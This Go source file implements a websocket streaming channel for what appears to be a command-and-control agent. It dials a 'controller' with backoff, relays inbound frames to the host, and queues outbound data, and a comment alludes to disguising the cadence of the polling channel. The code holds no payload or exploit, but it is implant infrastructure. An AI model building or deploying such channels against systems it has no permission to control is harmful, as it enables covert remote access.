/*
The wstream package implements the agent's streaming websocket channel,
registered for the ws and wss schemes. Unlike the polling channel there is no
cadence to disguise: the connection stays up and frames move in both
directions as they arrive. Dialing runs in the background and retries with an
exponential backoff; once the connection drops the channel dies and reports
unreachable, leaving any rebuild decision to the host.
*/
package wstream

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"sync"
	"sync/atomic"
	"time"

	backoff "github.com/cenkalti/backoff/v4"
	gorilla "github.com/gorilla/websocket"
	"gopkg.in/tomb.v2"

	"remora.dev/agent/bufferqueue"
	"remora.dev/agent/c2"
	"remora.dev/agent/logger"
)

const (
	maxDialInterval    = time.Minute
	maxDialElapsedTime = time.Hour

	outboundCapacity = 50
)

type Stream struct {
	tmb    tomb.Tomb
	logger *logger.Logger
	host   c2.Host

	endpoint string

	// client is set by the dial goroutine and read by Close
	clientLock sync.Mutex
	client     *gorilla.Conn

	outbound chan []byte

	running atomic.Bool
	started atomic.Bool
}

// Register binds the streaming channel to the registry for the plaintext and
// TLS websocket schemes.
func Register(registry *c2.Registry) {
	builder := func(logger *logger.Logger, host c2.Host, address string) (c2.Transport, error) {
		return New(logger, host, address)
	}
	registry.Register("ws", builder)
	registry.Register("wss", builder)
}

func New(logger *logger.Logger, host c2.Host, address string) (*Stream, error) {
	parsed, err := url.ParseRequestURI(address)
	if err != nil {
		return nil, err
	}
	if parsed.Host == "" {
		return nil, fmt.Errorf("endpoint %s has no authority", address)
	}

	return &Stream{
		logger:   logger,
		host:     host,
		endpoint: address,
		outbound: make(chan []byte, outboundCapacity),
	}, nil
}

// Start arms the channel. Dialing happens in the background so a down
// controller never blocks the caller; the channel dies with an error if the
// backoff is exhausted.
func (s *Stream) Start() error {
	s.started.Store(true)
	s.running.Store(true)

	s.tmb.Go(s.connect)

	s.logger.Infof("streaming channel started against %s", s.endpoint)
	return nil
}

// connect dials the controller with an exponential backoff, then hands the
// connection to the reader and writer.
func (s *Stream) connect() error {
	ctx := s.tmb.Context(context.Background())

	backoffParams := backoff.NewExponentialBackOff()
	backoffParams.MaxInterval = maxDialInterval
	backoffParams.MaxElapsedTime = maxDialElapsedTime

	ticker := backoff.NewTicker(backoffParams)
	defer ticker.Stop()

	for {
		select {
		case <-s.tmb.Dying():
			return nil
		case _, ok := <-ticker.C:
			if !ok {
				s.host.Unreachable()
				return fmt.Errorf("failed to dial %s after %s", s.endpoint, backoffParams.MaxElapsedTime)
			}

			conn, _, err := gorilla.DefaultDialer.DialContext(ctx, s.endpoint, http.Header{})
			if err != nil {
				s.host.Unreachable()
				s.logger.Debugf("dial failed, will retry: %s", err)
				continue
			}

			s.clientLock.Lock()
			if !s.tmb.Alive() {
				// Close already ran and saw no connection to tear down
				s.clientLock.Unlock()
				conn.Close()
				return nil
			}
			s.client = conn
			s.clientLock.Unlock()

			s.host.Reachable()
			s.tmb.Go(s.receive)
			s.tmb.Go(s.send)

			s.logger.Infof("streaming channel connected to %s", s.endpoint)
			return nil
		}
	}
}

// Egress queues bytes for transmission on the stream.
func (s *Stream) Egress(data []byte) {
	select {
	case s.outbound <- data:
	case <-s.tmb.Dying():
		s.logger.Debugf("dropping %d egress bytes on a dying channel", len(data))
	}
}

// Stop prevents further traffic; the connection is torn down by Close.
func (s *Stream) Stop() {
	s.running.Store(false)
	s.logger.Info("streaming channel stopped")
}

// Close releases the channel and is idempotent. Safe to call at any point of
// the channel's life, including while the dial loop is still retrying.
func (s *Stream) Close(reason error) {
	if s.tmb.Alive() {
		s.logger.Infof("streaming channel closing because: %s", reason)
		s.running.Store(false)
		s.tmb.Kill(reason)

		s.clientLock.Lock()
		if s.client != nil {
			s.client.Close()
		}
		s.clientLock.Unlock()

		if !s.started.Load() {
			// nothing was ever launched; give the tomb a goroutine to run
			// down so Done() still closes for observers
			s.tmb.Go(func() error { return nil })
		}
		s.tmb.Wait()
	} else {
		s.logger.Info("close was called while in a dying state")
	}
}

func (s *Stream) Done() <-chan struct{} {
	return s.tmb.Dead()
}

func (s *Stream) Err() error {
	return s.tmb.Err()
}

func (s *Stream) receive() error {
	defer s.logger.Info("streaming reader stopped")

	for {
		_, rawMessage, err := s.client.ReadMessage()
		if !s.tmb.Alive() {
			return nil
		} else if err != nil {
			if gorilla.IsCloseError(err, gorilla.CloseNormalClosure) {
				s.logger.Info("controller closed the stream normally")
				return nil
			}
			s.host.Unreachable()
			return fmt.Errorf("stream read failed: %w", err)
		}

		if !s.running.Load() {
			continue
		}

		queue := bufferqueue.New()
		queue.Append(rawMessage)
		s.host.DeliverInbound(queue)
	}
}

func (s *Stream) send() error {
	defer s.logger.Info("streaming writer stopped")

	for {
		select {
		case <-s.tmb.Dying():
			return nil
		case data := <-s.outbound:
			if !s.running.Load() {
				continue
			}
			if err := s.client.WriteMessage(gorilla.BinaryMessage, data); err != nil {
				return fmt.Errorf("stream write failed: %w", err)
			}
		}
	}
}
